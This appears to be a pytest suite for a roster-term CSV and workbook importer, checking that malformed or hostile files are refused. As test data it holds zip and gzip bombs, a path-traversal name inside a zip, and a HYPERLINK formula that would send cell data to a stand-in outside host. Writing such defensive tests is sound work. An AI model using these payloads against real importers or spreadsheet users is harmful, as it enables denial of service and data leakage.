"""Files that are no tables or mean harm, through the whole pipeline (design section 11)."""

from __future__ import annotations

import gzip
import hashlib
from typing import Any

import pytest

from imports.models import Import
from imports.problems import FileRejected
from imports.steps import memos
from tests.imports.formats.contract import UNSAID
from tests.imports.harness import Tenant
from tests.tabular.reading import zipped
from tests.tabular.workbooks import inline, one_sheet

TERMS = "echovideo.terms.v1"
CSV = (
    "Name,Start Date,End Date,External ID\r\n"
    '"Été, early",2031-06-01,2031-08-01,T-1\r\n'
    "Autumn 2031,2031-08-18,2031-12-19,T-2\r\n"
)
MADE = [("Autumn 2031", "T-2"), ("Été, early", "T-1")]


def terms(tenant: Tenant) -> list[tuple[Any, ...]]:
    return tenant.query(
        "SELECT name, external_id FROM roster_term WHERE institution_id = %s AND deleted_at IS NULL"
        ' ORDER BY name COLLATE "C"',
        tenant.pk,
    )


def refusal(tenant: Tenant, data: bytes, **options: Any) -> Import:
    """The import of a file that is refused as a whole: nothing of it is kept or applied."""
    upload = tenant.load(data, TERMS, **options)
    assert upload.job.status == "failed", upload.counts
    assert upload.counts["rows"] == 0
    assert tenant.plan(upload) == []
    assert terms(tenant) == []
    return upload


def told(upload: Import) -> tuple[str, str]:
    assert upload.job.problem is not None
    return upload.job.problem["code"], upload.job.problem["detail"]


BOMB = b"Name,Start Date,End Date\n" + (b" " * 1_023 + b"\n") * (70 * 1_024)
REFUSED: dict[str, tuple[bytes, str, str]] = {
    "empty": (b"", "empty_file", "The file is empty. Send a file with a header and rows."),
    "blank": (
        b"\r\n ,  \r\n\n",
        "no_header",
        "The file has no row with text in it. Send a file with a header and rows.",
    ),
    "header only": (
        CSV.split("\r\n")[0].encode(),
        "no_rows",
        "The file has a header and no row below it, so there is nothing to import. Add rows and send it again.",
    ),
    "header and blank lines": (
        CSV.split("\r\n")[0].encode() + b"\n\n,,,\n",
        "no_rows",
        "The file has a header and no row below it, so there is nothing to import. Add rows and send it again.",
    ),
    "PDF": (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "not_a_table",
        (
            "The file is a PDF document, not a delimited text. Send a delimited text: in a spreadsheet program, save the"
            ' sheet as "CSV UTF-8".'
        ),
    ),
    "PNG": (
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
        "not_a_table",
        (
            "The file is a PNG picture, not a delimited text. Send a delimited text: in a spreadsheet program, save the"
            ' sheet as "CSV UTF-8".'
        ),
    ),
    "HTML that calls itself a spreadsheet": (
        b"<html><table><tr><td>Name</td></tr></table></html>",
        "not_a_table",
        (
            "The file is a web page, not a delimited text. Send a delimited text: in a spreadsheet program, save the sheet"
            ' as "CSV UTF-8".'
        ),
    ),
    "a workbook of the old kind": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
        "not_a_table",
        (
            "The file is an Excel workbook of the old kind (.xls), or one with a password, not a delimited text. Send a"
            ' delimited text: in a spreadsheet program, save the sheet as "CSV UTF-8".'
        ),
    ),
    "UTF-16 without its mark": (
        CSV.encode("utf-16-le"),
        "bad_encoding",
        'The file looks like UTF-16, but lacks the mark that says so. Save it as "CSV UTF-8" and send that.',
    ),
    "UTF-32": (
        CSV.encode("utf-32"),
        "bad_encoding",
        'The file is in UTF-32. Save it as "CSV UTF-8" and send that.',
    ),
    "a quote that is never closed": (
        CSV.encode() + b'"Winter,2032-12-20,2033-01-11,T-3\nSpring,2033-01-12,2033-05-28,T-4\n',
        "unclosed_quote",
        (
            "Row 4, column 1: a double quote is opened and not closed again, so that what follows disappears in this cell."
            " It begins: `Winter,2032-12-20,2033-01-11,T-3\nSpring,2033-01-12,2033-05-28,T-4`."
            " Close the quote, or write it twice if it belongs to the text."
        ),
    ),
    "10,000 columns": (
        ",".join(["Name", "Start Date", "End Date", *(f"c{n}" for n in range(9_997))]).encode()
        + b"\nA,B,C\n",
        "too_many_columns",
        (
            "The header has 10000 columns; at most 2000 are read. Leave out columns that are not needed, or check the"
            " delimiter."
        ),
    ),
    "a gzip that is a bomb": (
        gzip.compress(BOMB, 9),
        "suspicious_ratio",
        "The file unpacks to more than 200 times its size, which tables do not. Send it unpacked.",
    ),
    "a zip that is a bomb": (
        zipped({"terms.csv": BOMB}),
        "suspicious_ratio",
        "The file unpacks to more than 200 times its size, which tables do not. Send it unpacked.",
    ),
    "a zip in a zip": (
        zipped({"terms.zip": zipped({"terms.csv": CSV.encode()})}),
        "nested_zip",
        "The zip file holds another packed file or a spreadsheet. Send the inner file as it is.",
    ),
    "a zip in a gzip": (
        gzip.compress(zipped({"terms.csv": CSV.encode()})),
        "nested_zip",
        "The gzip file holds another packed file or a spreadsheet. Send the inner file as it is.",
    ),
    "a name that leads out": (
        zipped({"../../terms.csv": CSV.encode()}),
        "unsafe_name",
        "The zip holds a file named '../../terms.csv', which points outside of it. Pack the files anew, without paths.",
    ),
    "two files in a zip": (
        zipped({"terms.csv": CSV.encode(), "more.csv": CSV.encode()}),
        "zip_many_members",
        (
            "The zip holds 2 files: terms.csv, more.csv. Send a zip with exactly one CSV in it, or send the files one by"
            " one."
        ),
    ),
    "half a gzip": (
        gzip.compress(CSV.encode())[:-20],
        "corrupt_archive",
        "The packed file is damaged or incomplete: unpacking stopped after 0 bytes. Pack it again, or send it unpacked.",
    ),
    "a header that is too wide in one cell": (
        b"x" * 1_000_001 + b",Name\na,b\n",
        "no_header",
        "Row 1, column 1: a column name of 1000001 characters. Send a file whose first row names the columns.",
    ),
    "former bulk users": (
        b"Role,Last name,First name,Email Address,Course Code,Section Code\nStudent,Tan,Mei,m@x.example,A,1\n",
        "legacy_header",
        (
            "This is the header of the former import “bulk users”, which is not read any more. Use “create” of Users for"
            " the people, and “create” of Enrollments for their sections."
        ),
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_table_or_means_harm_is_refused_as_a_whole(name: str, tenant: Tenant) -> None:
    data, code, detail = REFUSED[name]
    assert told(refusal(tenant, data)) == (code, detail)
    assert not any(word in detail.lower() for word in UNSAID)


def test_an_encrypted_zip_is_refused(tenant: Tenant) -> None:
    # The bit that says so, in both of its headers.
    data = bytearray(zipped({"terms.csv": CSV.encode()}))
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(magic) + offset] |= 1
    assert told(refusal(tenant, bytes(data))) == (
        "encrypted_zip",
        "The zip is protected by a password ('terms.csv'). Pack it without one.",
    )


def test_a_file_past_the_limits_of_the_house_is_refused(tenant: Tenant, settings: Any) -> None:
    settings.MAX_UNPACKED_BYTES = 100
    upload = refusal(tenant, gzip.compress(CSV.encode()))
    assert told(upload) == (
        "too_large_unpacked",
        "The file holds more than 100 bytes once unpacked. Split it into several files.",
    )
    settings.MAX_UNPACKED_BYTES = 1_000
    settings.MAX_ROWS = 1
    assert told(refusal(tenant, CSV.encode()))[0] == "too_many_rows"


LONG = b"x" * 50_000_000


@pytest.mark.parametrize(
    ("cell", "code", "sentence"),
    [
        (
            LONG,
            "cell_too_long",
            (
                "Name has a cell of more than 1,000,000 characters, which is all that is read. Shorten it; if it has swallowed other"
                " cells, close its double quotes."
            ),
        ),
        (
            b"x" * 1_000_001,
            "cell_too_long",
            (
                "Name has a cell of more than 1,000,000 characters, which is all that is read. Shorten it; if it has swallowed other"
                " cells, close its double quotes."
            ),
        ),
        (
            b"Win\0ter",
            "nul_byte",
            "This row has a NUL character, which no text has: `Win\\x00ter`. Take it out and send the row again.",
        ),
        (
            b'"Winter" 2032',
            "stray_quote",
            (
                'This row goes on after a closing double quote: `"Winter" 2032,2032-12-20,2033-01-11,T-3`. Write a double'
                " quote that belongs to the text twice, and close every quoted cell."
            ),
        ),
        (
            b"Win\xe9ter",
            "bad_bytes",
            (
                "This row has bytes that are not text in the file's encoding: `Win\\xe9ter`. Save the file as “CSV UTF-8”"
                " and send the row again; all other rows were read."
            ),
        ),
        (
            b"x" * 300_000,
            "too_long",
            "Name has 300,000 characters. Shorten it to at most 200.",
        ),
    ],
    ids=["50 MB", "a million and one", "NUL", "stray quote", "bad byte", "long for its column"],
)
def test_a_hostile_cell_costs_its_row_alone(cell: bytes, code: str, sentence: str, tenant: Tenant) -> None:
    data = CSV.encode() + cell + b",2032-12-20,2033-01-11,T-3\r\nSpring,2033-01-12,2033-05-28,T-4\r\n"
    upload = tenant.load(data, TERMS)
    assert upload.job.status == "completed_with_errors", upload.job.problem
    assert (upload.counts["created"], upload.counts["failed"]) == (3, 1)
    row = tenant.row(upload, 4)
    assert row.codes == [code]
    assert row.sentences == [sentence]
    assert terms(tenant) == [MADE[0], ("Spring", "T-4"), MADE[1]]


def test_a_row_of_many_long_cells_costs_itself_alone(tenant: Tenant) -> None:
    cells = ",".join(["y" * 900_000] * 5)
    upload = tenant.load(CSV + f"{cells}\r\nSpring,2033-01-12,2033-05-28,T-4\r\n", TERMS)
    assert upload.counts["created"] == 3
    assert tenant.row(upload, 4).sentences == [
        (
            "This row is longer than 4,000,000 characters, which is all that is read. Shorten it; if it has swallowed"
            " other rows, check the line ends."
        )
    ]


def test_a_formula_in_a_text_file_is_text(tenant: Tenant) -> None:
    name = '=HYPERLINK("http://far.example?x="&A1)'
    upload = tenant.load(
        f'Name,Start Date,End Date\n"{name.replace(chr(34), chr(34) * 2)}",2031-06-01,2031-08-01\n', TERMS
    )
    assert upload.counts["created"] == 1
    assert terms(tenant) == [(name, None)]


def test_a_formula_in_a_workbook_is_its_value_or_costs_its_row(tenant: Tenant) -> None:
    def row(number: int, name: str) -> str:
        dates = "".join(f'<c t="inlineStr"><is><t>{day}</t></is></c>' for day in ("2031-06-01", "2031-08-01"))
        return f'<row r="{number}">{name}{dates}</row>'

    data = one_sheet(
        inline(1, "Name", "Start Date", "End Date"),
        row(2, '<c t="str"><f>A1&amp;"x"</f><v>Summer</v></c>'),
        row(3, '<c><f>A1&amp;"y"</f></c>'),
    )
    upload = tenant.load(data, TERMS, file_name="terms.xlsx")
    assert (upload.counts["created"], upload.counts["failed"]) == (1, 1)
    assert terms(tenant) == [("Summer", None)]
    assert tenant.row(upload, 3).sentences == [
        (
            'Name is the formula `=A1&"y"`, and its result is not in the file. Open the file in a spreadsheet program, let'
            " it calculate, and save it; or send values."
        )
    ]


def test_names_in_two_normal_forms_are_one_name(tenant: Tenant) -> None:
    upload = tenant.load(
        CSV + "E\u0301te\u0301\\, early,2031-06-01,2031-08-01,T-3\r\n".replace("\\,", ""), TERMS
    )
    assert upload.counts["created"] == 3
    again = tenant.load('Name,Start Date,End Date\n"E\u0301TE\u0301, EARLY",2031-06-01,2031-08-01\n', TERMS)
    assert tenant.row(again, 2).codes == ["duplicate_object"]


def test_all_or_nothing_says_how_many_rows_stood_in_the_way(tenant: Tenant) -> None:
    upload = tenant.load(CSV + "Winter,soon,2033-01-11,T-3\r\n", TERMS, on_error="abort")
    assert upload.job.status == "failed"
    assert told(upload) == (
        "aborted",
        "1 of 3 rows are bad, and this import was to apply all or nothing. Nothing was applied.",
    )
    assert upload.counts["held"] == 2
    assert terms(tenant) == []


def test_a_file_that_is_not_what_was_announced_is_refused(tenant: Tenant) -> None:
    upload = refusal(tenant, CSV.encode(), rows_expected=1_200)
    assert told(upload) == (
        "rows_expected",
        "The file has 2 data rows, 1,200 were announced. Send the whole file.",
    )
    with pytest.raises(FileRejected) as refused:
        tenant.receive(CSV, TERMS, sha256="0" * 64)
    found = hashlib.sha256(CSV.encode()).hexdigest()
    assert refused.value.detail == (
        f"The file's SHA-256 is {found}, {'0' * 64} was announced. Send the file again."
    )


def test_long_cells_are_not_kept_in_memory() -> None:
    # A hundred thousand of them would be as much as their sender likes.
    room = memos.Room(1 << 20)
    memo = memos.Memo(str.encode, room)
    assert [memo["x" * 2_000], memo["x" * 2_000], memo["short"]] == [b"x" * 2_000, b"x" * 2_000, b"short"]
    assert list(memo) == ["short"]
    for number in range(20_000):
        assert memo[str(number)] is not None
    # A MiB holds less than 5,000 entries, however short the cells.
    assert len(memo) < 5_000 * 1.3
    assert 0 <= room.left < 1 << 20
